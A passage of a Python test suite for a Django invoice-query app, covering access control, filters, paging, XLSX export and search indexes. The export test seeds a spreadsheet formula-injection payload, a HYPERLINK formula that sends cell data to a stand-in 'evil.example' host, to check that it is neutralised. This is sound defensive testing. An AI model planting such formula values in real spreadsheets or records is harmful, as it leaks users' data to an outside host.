import datetime
import html
import importlib
import io
import re
import types
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from django.db import connection, models
from django.http import HttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import URLResolver, path, reverse

from fapiao import testing
from fapiao import urls as root_urls
from fapiao.accounts.models import Role, User
from fapiao.audit.models import Event
from fapiao.invoices import query, search, views_query
from fapiao.invoices.models import Invoice, InvoiceLine, InvoiceStatus, SearchName
from fapiao.invoices.selectors import invoices_visible_to
from fapiao.rules import uscc

pytestmark = pytest.mark.django_db

URL = "/invoices/"
EXPORT_URL = "/invoices/export.xlsx"
NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
EXCEL_EPOCH = datetime.date(1899, 12, 30)
DAY = datetime.date(2025, 6, 30)
BUYER = "杭州西湖龙井茶叶贸易有限公司"


@pytest.fixture(autouse=True, params=["pinned", "scanned"])
def access_path(request, monkeypatch):
    """Every test runs twice: with selective filters pinned to a few ids (the usual case with
    few invoices) and with them applied while walking the organization's index (many matches)."""
    if request.param == "scanned":
        monkeypatch.setattr(query, "PIN_LIMIT", 0)
    return request.param


@pytest.fixture
def org():
    return testing.organization("北京云帆数字科技有限公司")


@pytest.fixture
def admin(org):
    return testing.member(org, Role.ADMIN)


@pytest.fixture
def other_org():
    return testing.organization("上海明澜商贸有限公司")


@pytest.fixture
def signed_in(client, admin):
    client.force_login(admin)
    return client


def listed(response) -> list[int]:
    assert response.status_code == 200
    return [row["invoice"].pk for row in response.context["rows"]]


def get_ids(client, **params) -> list[int]:
    return listed(client.get(URL, params))


def page_link(response, rel: str) -> str | None:
    match = re.search(rf'<a href="([^"]+)" rel="{rel}">', response.content.decode())
    return URL + html.unescape(match.group(1)) if match else None


def read_sheet(content: bytes) -> list[list]:
    """The first worksheet's rows (text, numbers, None for empty cells), without openpyxl.
    xlsxwriter's constant_memory mode writes text as inline strings, not shared ones."""
    with zipfile.ZipFile(io.BytesIO(content)) as xlsx:
        assert xlsx.testzip() is None
        names = xlsx.namelist()
        shared = (
            ElementTree.fromstring(xlsx.read("xl/sharedStrings.xml"))  # noqa: S314
            if "xl/sharedStrings.xml" in names
            else None
        )
        sheet = ElementTree.fromstring(xlsx.read("xl/worksheets/sheet1.xml"))  # noqa: S314
    strings = (
        ["".join(t.text or "" for t in si.iter(f"{NS}t")) for si in shared.iter(f"{NS}si")]
        if shared is not None
        else []
    )
    rows = []
    for row in sheet.iter(f"{NS}row"):
        cells = {}
        for cell in row.iter(f"{NS}c"):
            letters = re.match(r"[A-Z]+", cell.get("r")).group()
            column = 0
            for letter in letters:
                column = column * 26 + ord(letter) - 64
            value = cell.find(f"{NS}v")
            if cell.get("t") == "inlineStr":
                cells[column - 1] = "".join(t.text or "" for t in cell.iter(f"{NS}t"))
            elif cell.get("t") == "s":
                cells[column - 1] = strings[int(value.text)]
            elif value is not None:
                cells[column - 1] = float(value.text)
        rows.append([cells.get(i) for i in range(max(cells, default=-1) + 1)])
    return rows


def urlconf_with_detail_page() -> types.ModuleType:
    """The project's URLs plus a stand-in invoice page, as the lead's detail page will be."""
    module = types.ModuleType("urls_with_invoice_detail")
    module.urlpatterns = [
        path("invoices/<int:pk>/", lambda request, pk: HttpResponse(), name="invoice_detail"),
        *root_urls.urlpatterns,
    ]
    return module


def urlconf_without_detail_page() -> types.ModuleType:
    module = types.ModuleType("urls_without_invoice_detail")
    module.urlpatterns = _without(root_urls.urlpatterns, "invoice_detail")
    return module


def _without(patterns, name: str) -> list:
    kept = []
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            kept.append(
                URLResolver(
                    pattern.pattern,
                    _without(pattern.url_patterns, name),
                    pattern.default_kwargs,
                    pattern.app_name,
                    pattern.namespace,
                )
            )
        elif pattern.name != name:
            kept.append(pattern)
    return kept


# Access ------------------------------------------------------------------------------------------


def test_url_names_resolve():
    assert reverse("invoice_list") == URL
    assert reverse("invoice_export") == EXPORT_URL


@pytest.mark.parametrize("url", [URL, EXPORT_URL])
def test_it_sends_anonymous_visitors_to_login(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


@pytest.mark.parametrize("url", [URL, EXPORT_URL])
def test_it_refuses_a_user_without_an_organization_with_404(client, url):
    loner = User.objects.create_user(email="loner@example.com", password=testing.PASSWORD)
    client.force_login(loner)
    assert client.get(url).status_code == 404


def test_it_never_shows_another_organizations_invoices_even_by_number(client, org, other_org):
    theirs = testing.invoice(seller=org, buyer_name=BUYER, number="25112000000000000777", day=DAY)
    testing.invoice(seller=testing.organization(), buyer=org, day=DAY)
    mine = testing.invoice(seller=other_org, number="25312000000000000001", day=DAY)
    client.force_login(testing.member(other_org, Role.VIEWER))

    assert get_ids(client) == [mine.pk]
    assert get_ids(client, number=theirs.number) == []
    assert get_ids(client, number=theirs.number[:10]) == []
    assert get_ids(client, party=BUYER[2:6]) == []
    assert get_ids(client, party=org.tax_id) == []
    response = client.get(EXPORT_URL, {"number": theirs.number})
    assert read_sheet(b"".join(response.streaming_content))[1:] == []


def test_a_viewer_can_search_and_export(client, org):
    inv = testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    client.force_login(testing.member(org, Role.VIEWER))
    assert get_ids(client, party=BUYER[2:6]) == [inv.pk]
    response = client.get(EXPORT_URL, {"party": BUYER[2:6]})
    assert response.status_code == 200
    assert len(read_sheet(b"".join(response.streaming_content))) == 2


def test_the_query_module_is_in_the_navigation(signed_in):
    body = signed_in.get("/").content.decode()
    assert f'<a href="{URL}" data-nav="query">查询</a>' in body


# The list ----------------------------------------------------------------------------------------


def test_it_lists_sold_and_bought_invoices_newest_first_with_the_other_party(signed_in, org):
    supplier = testing.organization("深圳供应商有限公司")
    sold = testing.invoice(seller=org, buyer_name=BUYER, day=DAY, amount="1000.00", rate="0.13")
    bought = testing.invoice(seller=supplier, buyer=org, day=DAY - datetime.timedelta(days=1))
    testing.invoice(seller=supplier, day=DAY)  # between strangers

    response = signed_in.get(URL)
    assert listed(response) == [sold.pk, bought.pk]
    body = response.content.decode()
    for heading in ("开票日期", "发票号码", "类型", "方向", "对方名称", "金额", "税额", "价税合计"):
        assert heading in body
    assert '<span class="tag out">开具</span>' in body and BUYER in body
    assert '<span class="tag in">取得</span>' in body and supplier.name in body
    assert "1,130.00" in body and "数电专票" in body
    assert "共 2 张" in body


def test_legacy_invoices_show_code_and_number(signed_in, org):
    testing.invoice(buyer=org, type_code="04", code="011002100111", number="12345678", day=DAY)
    body = signed_in.get(URL).content.decode()
    assert "011002100111 12345678" in body and "普票" in body


def test_red_invoices_show_in_red_with_negative_amounts(signed_in, org):
    blue = testing.invoice(seller=org, amount="500.00", day=DAY)
    red = testing.invoice(
        seller=org, amount="-500.00", day=DAY, is_red=True, original=blue, buyer_name="红冲客户"
    )
    body = signed_in.get(URL).content.decode()
    row = re.search(rf'<tr class="red" data-invoice="{red.pk}">(.*?)</tr>', body, re.S).group(1)
    assert '<td class="num negative">-530.00</td>' in row
    assert '<span class="tag red">红字</span>' in row


def test_rows_link_to_the_invoice_page_when_it_exists(signed_in, org, settings):
    inv = testing.invoice(seller=org, day=DAY)
    settings.ROOT_URLCONF = urlconf_with_detail_page()
    body = signed_in.get(URL).content.decode()
    assert f'<a href="/invoices/{inv.pk}/">' in body
    # The download links, built from one reversal per page, are the URLs Django reverses.
    assert f'<a href="{reverse("invoice_pdf", args=[inv.pk])}">PDF</a>' in body
    assert f'<a href="{reverse("invoice_xml", args=[inv.pk])}">XML</a>' in body

    settings.ROOT_URLCONF = urlconf_without_detail_page()
    response = signed_in.get(URL)
    assert listed(response) == [inv.pk]
    assert f'<a href="/invoices/{inv.pk}/">' not in response.content.decode()


# Filters -----------------------------------------------------------------------------------------


def test_number_finds_the_exact_invoice_and_prefixes(signed_in, org):
    a = testing.invoice(seller=org, number="25112000000000000101", day=DAY)
    b = testing.invoice(seller=org, number="25112000000000000102", day=DAY)
    c = testing.invoice(seller=org, number="25442000000000000101", day=DAY)
    assert get_ids(signed_in, number=a.number) == [a.pk]
    assert get_ids(signed_in, number="2511200000000000010*") == [b.pk, a.pk]
    assert get_ids(signed_in, number="2544") == [c.pk]  # shorter than a number: a prefix
    assert get_ids(signed_in, number="2599*") == []


def test_number_finds_legacy_invoices_by_code_and_number(signed_in, org):
    paper = testing.invoice(
        buyer=org, type_code="04", code="011002100111", number="12345678", day=DAY
    )
    other = testing.invoice(
        buyer=org, type_code="04", code="011002100222", number="12345678", day=DAY
    )
    assert get_ids(signed_in, number="011002100111 12345678") == [paper.pk]
    assert get_ids(signed_in, number="01100210011112345678") == [paper.pk]
    assert get_ids(signed_in, number="011002100111") == [paper.pk]
    assert get_ids(signed_in, number="12345678") == [other.pk, paper.pk]
    assert get_ids(signed_in, number="0110021002*") == [other.pk]


def test_dates_are_an_inclusive_range(signed_in, org):
    days = [DAY - datetime.timedelta(days=n) for n in range(5)]
    invoices = [testing.invoice(seller=org, day=d) for d in days]
    ids = get_ids(signed_in, date_from=days[3].isoformat(), date_to=days[1].isoformat())
    assert ids == [invoices[1].pk, invoices[2].pk, invoices[3].pk]
    assert get_ids(signed_in, date_from=days[0].isoformat()) == [invoices[0].pk]


def test_amounts_filter_on_the_total_or_on_the_amount_before_tax(signed_in, org):
    small = testing.invoice(seller=org, amount="100.00", rate="0.06", day=DAY)  # total 106.00
    large = testing.invoice(seller=org, amount="1000.00", rate="0.13", day=DAY)  # total 1130.00
    assert get_ids(signed_in, amount_min="106") == [large.pk, small.pk]
    assert get_ids(signed_in, amount_min="106.01") == [large.pk]
    assert get_ids(signed_in, amount_max="1000") == [small.pk]
    assert get_ids(signed_in, amount_max="1000", amount_basis="amount") == [large.pk, small.pk]
    assert get_ids(signed_in, amount_min="100", amount_max="100", amount_basis="amount") == [
        small.pk
    ]


def test_status_type_and_direction_filter(signed_in, org):
    supplier = testing.organization()
    special = testing.invoice(seller=org, type_code="31", day=DAY)
    voided = testing.invoice(
        seller=org, type_code="32", status=InvoiceStatus.VOIDED, day=DAY - datetime.timedelta(1)
    )
    bought = testing.invoice(
        seller=supplier, buyer=org, type_code="32", day=DAY - datetime.timedelta(2)
    )
    assert get_ids(signed_in, status=InvoiceStatus.VOIDED) == [voided.pk]
    assert get_ids(signed_in, status=InvoiceStatus.NORMAL) == [special.pk, bought.pk]
    assert get_ids(signed_in, type_code="32") == [voided.pk, bought.pk]
    assert get_ids(signed_in, direction="issued") == [special.pk, voided.pk]
    assert get_ids(signed_in, direction="received") == [bought.pk]
    assert get_ids(signed_in, direction="all") == [special.pk, voided.pk, bought.pk]


def test_an_invoice_the_organization_sold_to_itself_is_listed_once(signed_in, org):
    inv = testing.invoice(seller=org, buyer=org, day=DAY)
    assert get_ids(signed_in) == [inv.pk]
    assert get_ids(signed_in, direction="received") == [inv.pk]


def test_party_finds_a_four_character_substring_of_the_chinese_name(signed_in, org):
    supplier = testing.organization("广州珠江电子材料有限公司")
    sold = testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    bought = testing.invoice(seller=supplier, buyer=org, day=DAY - datetime.timedelta(1))
    testing.invoice(seller=org, buyer_name="成都天府软件有限公司", day=DAY)

    assert get_ids(signed_in, party="西湖龙井") == [sold.pk]
    assert get_ids(signed_in, party="珠江电子") == [bought.pk]
    assert get_ids(signed_in, party="西湖龙井", party_role="seller") == []
    assert get_ids(signed_in, party="西湖龙井", party_role="buyer") == [sold.pk]
    assert get_ids(signed_in, party="珠江电子", party_role="seller") == [bought.pk]


def test_party_of_one_or_two_characters_falls_back_to_a_scan(signed_in, org):
    sold = testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    testing.invoice(seller=org, buyer_name="成都天府软件有限公司", day=DAY)
    assert get_ids(signed_in, party="龙井", party_role="buyer") == [sold.pk]
    assert get_ids(signed_in, party="茶", party_role="buyer") == [sold.pk]


def test_party_latin_letters_match_in_any_case(signed_in, org):
    sold = testing.invoice(seller=org, buyer_name="ABC Tech 北京有限公司", day=DAY)
    assert get_ids(signed_in, party="abc tech") == [sold.pk]
    assert get_ids(signed_in, party="ab") == [sold.pk]


def test_party_that_is_a_tax_id_matches_it_exactly(signed_in, org):
    tax_id = uscc.make("91330106MA2AAAAA0")
    sold = testing.invoice(seller=org, buyer_name=BUYER, buyer_tax_id=tax_id, day=DAY)
    testing.invoice(seller=org, day=DAY)
    assert get_ids(signed_in, party=tax_id.lower()) == [sold.pk]
    assert get_ids(signed_in, party=tax_id, party_role="seller") == []
    assert get_ids(signed_in, party=tax_id[:10]) == []  # part of a tax ID is no name


def test_item_keyword_searches_the_line_names(signed_in, org):
    tea = testing.invoice(seller=org, day=DAY)
    InvoiceLine.objects.filter(invoice=tea).update(name="*茶*西湖龙井明前特级")
    testing.invoice(seller=org, day=DAY)  # *信息技术服务*软件开发服务
    assert get_ids(signed_in, item="龙井明前") == [tea.pk]
    assert get_ids(signed_in, item="茶") == [tea.pk]
    assert len(get_ids(signed_in, item="软件开发")) == 1


@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        ({"date_from": "2025-13-01"}, "date_from", "请输入有效的日期，例如 2025-03-01。"),
        ({"amount_min": "一百"}, "amount_min", "请输入有效的金额，例如 1000 或 1000.50。"),
        ({"amount_max": "1.234"}, "amount_max", "金额最多两位小数。"),
        ({"number": "ABC"}, "number", "发票号码、代码只能是数字"),
        ({"date_from": "2025-06-02", "date_to": "2025-06-01"}, "date_to", "结束日期不能早于"),
        ({"amount_min": "10", "amount_max": "5"}, "amount_max", "最高金额不能低于最低金额。"),
        ({"status": "99"}, "status", "请从列表中选择。"),
    ],
)
def test_bad_filters_are_explained_in_chinese_not_a_crash(signed_in, org, params, field, message):
    inv = testing.invoice(seller=org, day=DAY)
    response = signed_in.get(URL, params)
    assert listed(response) == [inv.pk]  # the bad condition is left out
    assert message in " ".join(response.context["form"].errors[field])
    body = response.content.decode()
    assert "筛选条件有误" in body and html.escape(message) in body


def test_a_bad_page_position_shows_the_first_page(signed_in, org):
    inv = testing.invoice(seller=org, day=DAY)
    for cursor in ("garbage", "2025-02-30~1", "~", "2025-01-01~-1"):
        response = signed_in.get(URL, {"after": cursor})
        assert listed(response) == [inv.pk]
        assert "分页位置无效，已显示第一页。" in response.content.decode()
    assert listed(signed_in.get(URL, {"sort": "total", "before": "NaN~3"})) == [inv.pk]


def test_the_count_stops_at_the_limit(signed_in, org, monkeypatch):
    monkeypatch.setattr(query, "COUNT_LIMIT", 3)
    monkeypatch.setattr(views_query, "COUNT_LIMIT", 3)
    for _ in range(4):
        testing.invoice(seller=org, day=DAY)
    assert "共 3+ 张" in signed_in.get(URL).content.decode()
    testing.invoice(seller=testing.organization(), buyer=org, day=DAY)
    assert "共 3+ 张" in signed_in.get(URL).content.decode()
    assert "共 1 张" in signed_in.get(URL, {"direction": "received"}).content.decode()


def test_a_count_that_is_not_cheap_is_left_out(signed_in, org, monkeypatch):
    def slow_count(branches, limit):
        with connection.cursor() as cursor:
            cursor.execute(
                "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c "
                "WHERE n < 100000000) SELECT count(*) FROM c"
            )
            return cursor.fetchone()[0]

    monkeypatch.setattr(query, "_count", slow_count)
    monkeypatch.setattr(query, "COUNT_BUDGET_MS", 1)
    inv = testing.invoice(seller=org, day=DAY)
    response = signed_in.get(URL)
    assert listed(response) == [inv.pk]
    assert response.context["page"].count is None
    assert "总数未统计" in response.content.decode()
    assert get_ids(signed_in) == [inv.pk]  # the connection is fine afterwards


# Sorting and paging ------------------------------------------------------------------------------


ORDERINGS = {
    "-date": ("-issue_date", "-id"),
    "date": ("issue_date", "id"),
    "-total": ("-total", "-id"),
    "total": ("total", "id"),
    "-number": ("-number", "-id"),
    "number": ("number", "id"),
}


@pytest.fixture
def many(org):
    """130 invoices, sold and bought, with ties on the date and on the total."""
    supplier = testing.organization()
    for n in range(130):
        testing.invoice(
            seller=org if n % 4 else supplier,
            buyer=None if n % 4 else org,
            day=DAY - datetime.timedelta(days=n % 9),
            amount=["100.00", "250.00", "-80.00", "1000.00"][n % 7 % 4],
        )
    testing.invoice(seller=org, buyer=org, day=DAY)
    testing.invoice(seller=supplier, day=DAY)  # not ours
    return org


@pytest.mark.parametrize("sort", list(ORDERINGS))
def test_keyset_pages_walk_every_row_once_in_order_both_ways(signed_in, many, sort):
    expected = list(
        invoices_visible_to(organization=many)
        .order_by(*ORDERINGS[sort])
        .values_list("pk", flat=True)
    )
    assert len(expected) == 131

    seen, pages, url = [], [], f"{URL}?sort={sort}"
    while url:
        response = signed_in.get(url)
        ids = listed(response)
        assert len(ids) == (50 if len(seen) + 50 <= 131 else 131 - len(seen))
        pages.append(ids)
        seen += ids
        url = page_link(response, "next")
        assert len(pages) <= 3
    assert seen == expected
    assert "共 131 张" in response.content.decode()

    back, url = [], page_link(response, "prev")
    while url:
        response = signed_in.get(url)
        back.insert(0, listed(response))
        url = page_link(response, "prev")
    assert back == pages[:-1]
    assert "回到第一页" not in response.content.decode()


def test_sort_links_turn_the_order_round(signed_in, org):
    cheap = testing.invoice(seller=org, amount="1.00", day=DAY)
    dear = testing.invoice(seller=org, amount="9.00", day=DAY - datetime.timedelta(1))
    body = signed_in.get(URL).content.decode()
    assert 'href="?sort=-total" data-sort="total"' in body
    assert get_ids(signed_in, sort="-total") == [dear.pk, cheap.pk]
    body = signed_in.get(URL, {"sort": "-total"}).content.decode()
    assert 'href="?sort=total" data-sort="total"' in body
    assert get_ids(signed_in, sort="total") == [cheap.pk, dear.pk]


def test_a_new_search_keeps_the_sort_but_starts_on_the_first_page(signed_in, many):
    response = signed_in.get(URL, {"sort": "total"})
    body = signed_in.get(page_link(response, "next")).content.decode()
    form = re.search(r'<form method="get" class="invoice-filters".*?</form>', body, re.S).group()
    assert '<input type="hidden" name="sort" value="total">' in form
    assert 'name="after"' not in form and 'name="before"' not in form


def test_deep_pages_start_at_the_cursor_without_offset(org):
    testing.invoice(seller=org, day=DAY)
    filters = query.InvoiceFilters(after=query.Cursor(DAY, 10**9))
    with CaptureQueriesContext(connection) as captured:
        page = query.invoice_search(organization=org, filters=filters)
    assert page.previous_cursor is not None and page.next_cursor is None
    reads = [q["sql"] for q in captured.captured_queries if "ORDER BY" in q["sql"]]
    assert len(reads) == 2  # the invoices sold and the invoices bought
    for sql in reads:
        assert "OFFSET" not in sql.upper()
        assert '"issue_date" <= ' in sql and '"id" < ' in sql


# Export ------------------------------------------------------------------------------------------


def test_export_holds_exactly_the_filtered_rows_with_formulas_neutralised(signed_in, org, admin):
    evil = testing.invoice(
        seller=org,
        buyer_name='=HYPERLINK("http://evil.example/?x="&A1,"点我")',
        amount="1000.00",
        rate="0.13",
        day=DAY,
    )
    plain = testing.invoice(
        seller=org, buyer_name="@SUM(1+1)有限公司", amount="10.00", day=DAY - datetime.timedelta(1)
    )
    testing.invoice(seller=org, amount="5.00", day=DAY)  # filtered out by the amount
    testing.invoice(seller=testing.organization(), day=DAY)  # not ours

    response = signed_in.get(EXPORT_URL, {"amount_min": "10", "sort": "-date", "after": "x"})
    assert response.status_code == 200
    assert response["Content-Type"] == views_query.XLSX
    assert "attachment" in response["Content-Disposition"]
    content = b"".join(response.streaming_content)
    rows = read_sheet(content)
    assert rows[0][:4] == ["开票日期", "发票代码", "发票号码", "发票类型"]
    assert [row[2] for row in rows[1:]] == [evil.number, plain.number]
    first = rows[1]
    assert EXCEL_EPOCH + datetime.timedelta(days=first[0]) == DAY
    assert first[4] == "开具"
    assert first[7] == '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    assert rows[2][7] == "'@SUM(1+1)有限公司"
    assert first[9:12] == [1000.0, 130.0, 1130.0]
    with zipfile.ZipFile(io.BytesIO(content)) as xlsx:
        sheet = xlsx.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet  # no formula anywhere
        assert 'formatCode="yyyy-mm-dd"' in xlsx.read("xl/styles.xml").decode()

    event = Event.objects.get(code="invoice.exported")
    assert (event.organization, event.actor, event.description) == (org, admin, "导出发票")
    assert event.details == {
        "filter": {"amount_min": "10", "sort": "-date"},
        "rows": 2,
    }


def test_export_refuses_more_rows_than_the_limit(signed_in, org, monkeypatch):
    monkeypatch.setattr(views_query, "EXPORT_MAX_ROWS", 2)
    for _ in range(3):
        testing.invoice(seller=org, day=DAY)
    response = signed_in.get(EXPORT_URL, {"direction": "issued"})
    assert response.status_code == 302
    assert response["Location"] == f"{URL}?direction=issued"
    assert "超过 2 张" in signed_in.get(response["Location"]).content.decode()
    assert not Event.objects.filter(code="invoice.exported").exists()


def test_export_with_a_bad_filter_goes_back_to_the_list(signed_in, org):
    response = signed_in.get(EXPORT_URL, {"amount_min": "abc"})
    assert response.status_code == 302
    assert response["Location"] == f"{URL}?amount_min=abc"


def test_export_walks_every_row_in_chunks(org, monkeypatch):
    for n in range(7):
        testing.invoice(seller=org, day=DAY - datetime.timedelta(days=n % 3))
    filters = query.InvoiceFilters(sort="-date")
    rows = list(query.invoices_matching(organization=org, filters=filters, chunk=2))
    expected = invoices_visible_to(organization=org).order_by("-issue_date", "-id")
    assert [i.pk for i in rows] == list(expected.values_list("pk", flat=True))


# The name index ----------------------------------------------------------------------------------


def explain(queryset) -> str:
    if connection.vendor == "postgresql":
        with connection.cursor() as cursor:
            cursor.execute("SET LOCAL enable_seqscan = off")
    return queryset.explain()


def _dictionary_plan(text: str, kind: str) -> str:
    """How the database finds the dictionary's names containing `text`."""
    if connection.vendor == "sqlite":
        # The statement matching_names runs, as it runs it.
        with CaptureQueriesContext(connection) as queries:
            search.matching_names(text, kind)
        (sql,) = [q["sql"] for q in queries.captured_queries if "MATCH" in q["sql"]]
        with connection.cursor() as cursor:
            cursor.execute("EXPLAIN QUERY PLAN " + sql)
            plan = " ".join(str(row) for row in cursor.fetchall())
        # The matches lead, and each is looked up by id (not every name of the kind read).
        assert "SEARCH invoices_searchname USING INTEGER PRIMARY KEY" in plan, plan
        return plan
    # With its statistics on a dictionary of realistic size (not three rows), PostgreSQL's
    # planner prefers the trigram index to the unique (kind, name) one.
    SearchName.objects.bulk_create(
        SearchName(kind=k, name=f"{k}名称{n:05d}") for k in ("party", "item") for n in range(3000)
    )
    with connection.cursor() as cursor:
        cursor.execute("ANALYZE invoices_searchname")
    return explain(SearchName.objects.filter(kind=kind, name__icontains=text))


@pytest.mark.parametrize(
    ("field", "index"),
    [
        ("buyer", "invoice_buyer_name"),
        ("seller", "invoice_seller_name"),
        ("item", "invoice_line_name"),
    ],
)
def test_name_search_finds_a_substring_through_the_dictionary(org, field, index):
    inv = testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    InvoiceLine.objects.filter(invoice=inv).update(name="*茶*西湖龙井明前特级")
    other = testing.invoice(seller=org, day=DAY)
    text = {"buyer": BUYER[2:6], "seller": org.name[2:6], "item": "龙井明前"}[field]

    found = search.name_filter(Invoice.objects.all(), text, field=field)
    assert len(text) == 4
    assert set(found.values_list("pk", flat=True)) == (
        {inv.pk, other.pk} if field == "seller" else {inv.pk}
    )
    # The substring is matched in the dictionary by its trigram index, the invoices are then
    # found by the exact names through a B-tree index.
    kind = "item" if field == "item" else "party"
    trigram = {"sqlite": "VIRTUAL TABLE INDEX 0:M", "postgresql": "invoices_searchname_trgm"}
    plan = _dictionary_plan(text, kind)
    assert trigram[connection.vendor] in plan, plan
    if connection.vendor == "postgresql" and field == "item":
        _lines_of_realistic_size(other)
    plan = explain(found)
    assert index in plan, plan


def _lines_of_realistic_size(invoice) -> None:
    """PostgreSQL plans by the table's statistics, which an index built in an earlier test (see
    imports/tests/test_bulk.py) leaves at a handful of lines: give it lines enough that a name
    is selective, as it is in use."""
    InvoiceLine.objects.bulk_create(
        InvoiceLine(invoice=invoice, position=n, name=f"*货物*品名{n:04d}", amount=Decimal("1"),
                    rate=Decimal("0.13"), tax=Decimal("0.13"))
        for n in range(2, 3002)
    )  # fmt: skip
    with connection.cursor() as cursor:
        cursor.execute("ANALYZE invoices_invoiceline")


def test_party_search_uses_the_name_indexes(org):
    testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    plan = explain(search.name_filter(Invoice.objects.all(), "西湖龙井", field="party"))
    assert "invoice_seller_name" in plan and "invoice_buyer_name" in plan, plan


def test_a_term_matching_no_name_finds_nothing_without_asking_the_invoices(org):
    testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    found = search.name_filter(Invoice.objects.all(), "黄山毛峰", field="party")
    assert found.query.is_empty()
    assert not found.exists()


@pytest.mark.parametrize("text", ["西湖", "茶", "西湖龙井"])
def test_short_and_long_terms_and_case_find_the_same_names(org, text):
    inv = testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    latin = testing.invoice(seller=org, buyer_name="ACME Tea (Hangzhou) Co., Ltd.", day=DAY)
    assert list(search.name_filter(Invoice.objects.all(), text, field="buyer")) == [inv]
    for term in ("acme", "Acme tea", "ac"):
        assert list(search.name_filter(Invoice.objects.all(), term, field="buyer")) == [latin]


@pytest.mark.parametrize("field", ["party", "buyer", "item"])
def test_a_term_matching_too_many_names_filters_the_invoices_columns(org, monkeypatch, field):
    monkeypatch.setattr(search, "NAMES_MAX", 2)
    made = [
        testing.invoice(seller=org, buyer_name=f"杭州西湖龙井茶叶第{n}分公司", day=DAY)
        for n in range(4)
    ]
    for n, inv in enumerate(made):
        InvoiceLine.objects.filter(invoice=inv).update(name=f"*茶*西湖龙井第{n}号")
    testing.invoice(seller=org, day=DAY)  # matches nothing
    kind = "item" if field == "item" else "party"
    assert search.matching_names("西湖龙井", kind) is None
    found = search.name_filter(Invoice.objects.all(), "西湖龙井", field=field)
    assert "LIKE" in str(found.query) and set(found) == set(made)
    # Through the list page too: the same four, the others left out.
    assert search.matching_names("西湖龙井第1", kind) is not None


def test_the_list_page_looks_a_term_up_in_the_dictionary_once(org):
    testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    filters = query.InvoiceFilters(party="西湖龙井")
    with CaptureQueriesContext(connection) as queries:
        page = query.invoice_search(organization=org, filters=filters)
    assert [i.buyer_name for i in page.invoices] == [BUYER]
    dictionary = [q for q in queries.captured_queries if "invoices_searchname" in q["sql"]]
    assert len(dictionary) == 1, dictionary


def test_postgresql_triggers_skip_a_transaction_that_added_its_names_itself(org):
    """A bulk import commits its names first and says so (search.PG_NAMES_ADDED)."""
    if connection.vendor != "postgresql":
        return
    migration = importlib.import_module("fapiao.invoices.migrations.0007_search_names")
    functions = [sql for sql in migration.POSTGRES_UP if sql.startswith("CREATE FUNCTION")]
    assert len(functions) == 2
    assert all(search.PG_NAMES_ADDED in sql for sql in functions)
    with connection.cursor() as cursor:
        cursor.execute("SELECT set_config(%s, 'on', true)", [search.PG_NAMES_ADDED])
    testing.invoice(seller=org, buyer_name="宁波天一阁书画有限公司", day=DAY)
    assert not SearchName.objects.filter(name="宁波天一阁书画有限公司").exists()
    with connection.cursor() as cursor:
        cursor.execute("SELECT set_config(%s, '', true)", [search.PG_NAMES_ADDED])
    testing.invoice(seller=org, buyer_name="宁波天一阁书画有限公司", day=DAY)
    assert SearchName.objects.filter(name="宁波天一阁书画有限公司").exists()


def test_an_insert_or_replace_or_abort_of_an_invoice_keeps_the_dictionary_whole(org):
    """SQLite: an outer OR ABORT / OR REPLACE overrides a trigger's OR IGNORE, not its upsert:
    a copy of an invoice (another number, the same names) goes in and the dictionary stays."""
    if connection.vendor != "sqlite":
        return
    inv = testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    before = SearchName.objects.count()
    others = [f.column for f in Invoice._meta.concrete_fields if f.column not in ("id", "number")]
    listed = ", ".join(others)
    for n, verb in enumerate(("INSERT OR ABORT", "INSERT OR REPLACE")):
        with connection.cursor() as cursor:
            cursor.execute(
                f"{verb} INTO invoices_invoice (number, {listed}) "  # noqa: S608
                f"SELECT number || %s, {listed} FROM invoices_invoice WHERE id = %s",
                [str(n), inv.pk],
            )
    assert Invoice.objects.filter(buyer_name=BUYER).count() == 3
    assert SearchName.objects.count() == before
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM invoices_searchname_fts")
        assert cursor.fetchone()[0] == before


def test_the_dictionary_holds_each_name_once_whatever_writes_it(org):
    testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    testing.invoice(seller=org, buyer_name=BUYER, day=DAY)
    Invoice.objects.bulk_create(
        [
            Invoice(
                type_code="31", number="25110000000000009999", issue_date=DAY, seller_org=org,
                seller_name=org.name, seller_tax_id=org.tax_id, buyer_name="成都锦江茶馆",
                amount=Decimal(1), tax=Decimal(0), total=Decimal(1), source="imported",
            )
        ]
    )  # fmt: skip
    parties = SearchName.objects.filter(kind="party")
    assert sorted(parties.values_list("name", flat=True)) == sorted(
        {org.name, BUYER, "成都锦江茶馆"}
    )


def test_the_index_follows_renamed_added_and_deleted_names(org):
    inv = testing.invoice(seller=org, buyer_name=BUYER, day=DAY)

    def found(text, field="buyer"):
        return list(search.name_filter(Invoice.objects.all(), text, field=field))

    Invoice.objects.filter(pk=inv.pk).update(buyer_name="南京紫金山天文仪器有限公司")
    assert found("西湖龙井") == [] and found("紫金山天") == [inv]
    line = InvoiceLine.objects.create(
        invoice=inv, position=2, name="*仪器*折射望远镜", amount=Decimal(1), rate=0, tax=0
    )
    assert found("折射望远", "item") == [inv]
    line.name = "*仪器*反射望远镜"
    line.save()
    assert found("折射望远", "item") == [] and found("反射望远", "item") == [inv]
    line.delete()
    assert found("反射望远", "item") == []
    assert found("软件开发", "item") == [inv]  # the first line still counts
    inv.lines.all().delete()
    inv.delete()
    assert found("紫金山天") == []


def _postgresql_keeps_its_trigram_indexes():
    """PostgreSQL's triggers live through table changes, and the SQLite repair is a no-op
